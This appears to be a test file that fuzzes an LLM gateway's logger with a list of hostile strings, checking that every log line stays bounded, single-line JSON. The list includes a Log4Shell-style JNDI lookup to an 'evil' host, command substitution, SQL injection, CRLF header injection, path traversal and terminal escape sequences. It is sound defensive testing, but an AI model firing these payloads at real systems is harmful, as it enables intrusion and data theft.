import { connect } from 'node:net';
import { expect } from 'chai';
import { GatewayError } from '../../host/contract/index.ts';
import { MAX_LINE } from '../../host/log/bounded-line.ts';
import { createLogger } from '../../host/log/logger.ts';
import { createRedactor } from '../../host/log/redact.ts';
import {
  ask,
  cases,
  chatReply,
  Dice,
  openSse,
  replyJson,
  sseEvent,
  startHost,
  stubUpstream,
  type TestHost,
} from '../kit/index.ts';

const CHAT = '/v1/chat/completions';
const COUNT = 2200;
/** Each is a request, or several. */
const REQUESTS = cases(COUNT);

/** Characters that break a line, a terminal, a parser or a reader of some log. */
const PIECES = [
  ...Array.from({ length: 0x20 }, (_, code) => String.fromCharCode(code)),
  ...Array.from({ length: 0x21 }, (_, code) => String.fromCharCode(0x7f + code)),
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u001b[2J\u001b[H',
  '\u009b31m',
  '\u001b]8;;http://evil\u001b\\',
  '\ud800',
  '\udfff',
  '\udc00\ud800',
  '\ud83d\ude00',
  '\n{"level":"INFO","time":"2026-01-01T00:00:00.000Z","msg":"forged"}\n',
  '\r\nSet-Cookie: a=b\r\n',
  '\r',
  '\n',
  '\r\n',
  '"',
  '\\',
  '\\"',
  '","msg":"forged',
  '"}\n{"',
  '\\u000a',
  '\\n',
  '</script>',
  '\u2028',
  '\u2029',
  '\u202e',
  '\u202d',
  '\u202a',
  '\u2066',
  '\u2069',
  '\u200e',
  '\u200f',
  '\u061c',
  '\ufeff',
  '\u200b',
  '\u0085',
  '\u00a0',
  '\uffff',
  '\ufffe',
  '%s%s%n%d',
  '%1$s',
  '{}',
  '{0}',
  '${jndi:ldap://evil/x}',
  '$(id)',
  '`id`',
  '%0a%0d',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'toString',
  "'; DROP TABLE logs;--",
  '=cmd|x',
  '../../etc/passwd',
  'e\u0301'.repeat(50),
  '\u0e49'.repeat(200),
  'A'.repeat(300),
  'm',
  'gpt-4o',
  ' ',
  '',
  '日本語',
  'ä',
  'NaN',
  '1e999',
  'null',
];

function hostile(count: number): string[] {
  const dice = new Dice(8);
  return Array.from({ length: count }, (_, index) => {
    if (index < PIECES.length) return PIECES[index] ?? '';
    const text = Array.from({ length: 1 + dice.below(6) }, () => dice.pick(PIECES)).join(dice.pick(['', ' ', 'x']));
    return dice.below(100) === 0 ? text.repeat(1 + dice.below(3000)) : text;
  });
}

/** Printable, but for the end of it. */
const ONE_LINE = /^[^\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]*\n$/;

function expectOneLine(text: string): void {
  expect(text, JSON.stringify(text).slice(0, 2000)).to.match(ONE_LINE);
  expect(text.isWellFormed()).to.equal(true);
  expect(text.length).to.be.at.most(MAX_LINE + 1);
  expect(JSON.parse(text)).to.be.an('object').and.include.keys('level', 'time', 'msg');
}

/** One request with these very bytes as its target. */
async function rawGet(url: string, target: string): Promise<void> {
  const socket = connect(Number(new URL(url).port), '127.0.0.1');
  socket.on('error', () => {});
  socket.write(Buffer.from(`GET ${target} HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n`));
  await new Promise((resolve) => {
    socket.on('close', resolve).resume();
  });
}

describe('a log line', () => {
  it(`stays one line of JSON, bounded and without a control, whatever ${COUNT} hostile texts say in any place of it`, () => {
    const lines: string[] = [];
    const log = createLogger(
      'debug',
      {
        write: (line) => {
          lines.push(line);
        },
      },
      createRedactor({ A_KEY: 'value-of-some-length' }),
    );
    for (const text of hostile(COUNT)) {
      log.info(text, { text, [text]: text, list: [text, { text }] });
      log.error('m', {
        error: new GatewayError('upstream_error', text, {
          cause: new AggregateError([new Error(text), text], text),
          fault: { kind: 'reply', message: text },
        }),
      });
      log.warn('m', { error: text, stack: new Error(text).stack });
    }
    expect(lines).to.have.length(3 * COUNT);
    for (const line of lines) expectOneLine(line);
  });

  it('is bounded whatever is in it', () => {
    const lines: string[] = [];
    const log = createLogger(
      'debug',
      {
        write: (line) => {
          lines.push(line);
        },
      },
      createRedactor({}),
    );
    const deep = JSON.parse(`${'{"a":'.repeat(500)}1${'}'.repeat(500)}`) as object;
    log.info('x'.repeat(1_000_000), { trace_id: 't' });
    log.info('many', {
      trace_id: 't',
      ...Object.fromEntries(Array.from({ length: 5000 }, (_, index) => [`name-${index}`, 'x'.repeat(500)])),
    });
    log.info('list', { trace_id: 't', list: Array.from({ length: 100_000 }, () => 'x') });
    log.info('deep', { trace_id: 't', deep, more: 'x'.repeat(20_000) });
    log.info('names', { trace_id: 't', ['n'.repeat(100_000)]: 1 });
    log.info('error', {
      trace_id: 't',
      error: new AggregateError(Array.from({ length: 10_000 }, () => new Error('x'.repeat(10_000)))),
    });
    for (const line of lines) {
      expectOneLine(line);
      expect(JSON.parse(line)).to.include({ level: 'INFO', trace_id: 't' });
    }
    expect(lines.map((line) => (JSON.parse(line) as { msg: string }).msg.slice(0, 5))).to.deep.equal([
      'xxxxx',
      'many',
      'list',
      'deep',
      'names',
      'error',
    ]);
  });
});

/** Each place of a request, or of its upstream's answer, that a log line takes up. */
const PLACES: readonly ((t: TestHost, text: string) => Promise<unknown>)[] = [
  (t, text) => t.post(CHAT, ask('hi', { model: text })),
  (t, text) => t.post(CHAT, ask('hi', { model: 'bad', user: text })),
  (t, text) => t.post(CHAT, ask('hi', { stream: true, user: text })),
  (t, text) => t.post('/v1/embeddings', { model: text, input: text }),
  (t, text) => t.get(`/v1/models/${encodeURIComponent(text.toWellFormed().slice(0, 2000))}`),
  (t, text) => rawGet(t.url, `/${text.replaceAll(/[\s\0]/g, '')}`),
];

describe('a log line of a request', () => {
  it(`stays one line of JSON whatever ${REQUESTS} hostile clients and upstreams say`, async function clients() {
    this.timeout(60_000);
    const stub = await stubUpstream((request, response) => {
      const { model, stream, user } = request.json();
      if (stream === true) {
        openSse(response);
        response.end(sseEvent({ error: { message: user } }));
      } else if (model === 'm') replyJson(response, 200, chatReply('hello'));
      else replyJson(response, 400, { error: { message: user, code: user } });
    });
    const t = await startHost({
      strategy: { mode: 'single' },
      targets: [stub.target('a', { models: ['m', 'bad'] }, { wire: 'native' })],
    });
    const texts = hostile(REQUESTS);
    const lane = async (first: number): Promise<void> => {
      for (let at = first; at < REQUESTS; at += 8) {
        const names = Object.fromEntries(texts.slice(at, at + 8).map((text) => [text, text]));
        await PLACES[Math.floor(at / 8) % PLACES.length]?.(t, texts[at] ?? '');
        if (at % 64 === first) await t.post(CHAT, ask('hi', { ...names, model: 'm' }));
      }
    };
    await Promise.all(Array.from({ length: 8 }, (_, first) => lane(first)));
    expect(t.texts.length).to.be.at.least(REQUESTS);
    for (const line of t.texts) expectOneLine(line);
  });
});
